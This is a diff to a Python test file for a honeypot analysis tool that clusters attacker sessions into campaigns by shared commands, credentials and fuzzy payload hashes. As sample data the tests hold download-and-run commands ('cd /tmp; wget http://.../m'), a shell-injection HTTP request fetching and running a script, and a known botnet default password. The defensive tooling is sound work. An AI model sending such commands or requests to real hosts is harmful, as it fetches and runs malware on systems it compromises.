@@ -11,6 +11,7 @@ from honeyguide.investigate.findings import scope_of
 from honeyguide.investigate.novelty import novelty
 from honeyguide.investigate.sessions import sessions
 from honeyguide.store.naive import NaiveStore
+from honeyguide.streams.tlsh import tlsh
 
 SmallStore: TypeAlias = Callable[[Sequence[Mapping[str, Any]]], NaiveStore]
 
@@ -38,9 +39,12 @@ def test_addresses_that_do_the_same_on_two_honeypots_are_one_campaign(small_stor
     alone = event("198.51.100.9", "dionaea", honeypot__command=["uname -a"])
     first, second = campaigns(scope_of(small_store([*bot(1), *bot(2), *bot(3), *other, alone])))
     assert first.addresses == ("192.0.2.1", "192.0.2.2", "192.0.2.3")
-    assert first.features == (("honeypot.command", "cd /tmp; wget http://192.0.2.99/m"),)
-    assert first.honeypots == ("cowrie",)
-    assert second.features == (("honeypot.payload.sha256", "ab" * 32),)
+    assert [(one.field, one.text) for one in first.features] == [
+        ("honeypot.command", "cd /tmp; wget http://<address>/m"),
+        ("honeypot.credential.password", "xc3511"),
+    ]
+    assert first.honeypots == ("cowrie", "dionaea")
+    assert [(one.field, one.text) for one in second.features] == [("honeypot.payload.sha256", "ab" * 32)]
     assert second.addresses == ("203.0.113.1", "203.0.113.2")
 
 
@@ -50,6 +54,38 @@ def test_a_campaign_keeps_its_id_as_more_addresses_join(small_store: SmallStore)
     assert before.id == after.id
     assert before.id.startswith("c-")
     assert len(after.addresses) == 4
+
+
+def test_commands_that_differ_in_addresses_and_numbers_are_one(small_store: SmallStore) -> None:
+    said = [f"wget http://198.51.100.{number}:8{number}/x{number}.sh" for number in (1, 2, 3)]
+    (campaign,) = campaigns(scope_of(small_store([event(f"192.0.2.{n}", "cowrie", honeypot__command=[one]) for n, one in enumerate(said)])))
+    assert campaign.anchor.text == "wget http://<address>/x<number>.sh"
+    assert campaign.anchor.values == tuple(said)
+
+
+def test_payloads_that_are_nearly_the_same_are_one(small_store: SmallStore) -> None:
+    request = "GET /shell?cd+/tmp;wget+http://198.51.100.{}/jaws;sh HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 192.0.2.1:80\r\n\r\n"
+    sent = [tlsh(request.format(number).encode()) for number in (1, 2)]
+    assert sent[0] != sent[1]
+    strange = tlsh(bytes(range(256)) * 2)
+    events = [event(f"192.0.2.{n}", "dionaea", honeypot__payload__tlsh=one) for n, one in enumerate([*sent, strange])]
+    (campaign,) = campaigns(scope_of(small_store(events)))
+    assert campaign.addresses == ("192.0.2.0", "192.0.2.1")
+
+
+def test_a_campaign_keeps_its_id_as_more_is_known_of_it(small_store: SmallStore) -> None:
+    later = {"@timestamp": "2026-03-05T10:00:00+00:00"}
+    (before,) = campaigns(scope_of(small_store([*bot(1), *bot(2)])))
+    payloads = [event(f"192.0.2.{number}", "dionaea", honeypot__payload__sha256="cd" * 32) | later for number in (1, 2)]
+    (after,) = campaigns(scope_of(small_store([*bot(1), *bot(2), *payloads])))
+    assert len(after.features) == 3
+    assert after.id == before.id
+
+
+def test_what_everybody_tries_is_no_campaign(small_store: SmallStore) -> None:
+    events = [event(f"192.0.2.{n}", "cowrie", honeypot__credential__password=["123456"]) for n in range(9)]
+    events += [event(f"198.51.100.{n}", "cowrie", honeypot__credential__password=["h4ndm4de"]) for n in range(2)]
+    assert list(campaigns(scope_of(small_store(events)))) == []
 
 
 def connection(stamp: str, port: int, source_port: int = 40000) -> dict[str, Any]:
